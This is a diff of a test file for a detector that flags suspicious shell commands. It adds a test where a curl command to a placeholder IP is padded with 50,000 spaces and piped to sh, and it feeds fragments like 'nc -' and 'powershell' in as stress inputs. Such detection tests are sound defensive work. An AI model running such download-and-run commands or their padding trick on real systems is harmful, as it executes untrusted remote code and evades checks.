@@ -36,12 +36,10 @@ describe('signs of attack', () => {
     '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
     'C:\\Windows\\system32\\userinit.exe,',
   ])('none: %s', (command) => expect(suspiciousSigns(command)).toEqual([]))
-  test('a long hostile text costs little', () => {
-    const begin = performance.now()
+  test('padding hides nothing, and a long hostile text ends', () => {
+    expect(suspiciousSigns(`curl http://192.0.2.1/x${' '.repeat(50_000)}| sh`)).toEqual(['download-and-run'])
     for (const piece of ['powershell ', 'curl a ', '/.a', 'nc -', '"\\temp', 'wscript '])
       suspiciousSigns(piece.repeat(40_000))
-    // Generous: what must not happen is minutes.
-    expect(performance.now() - begin).toBeLessThan(10_000)
   })
 })
 
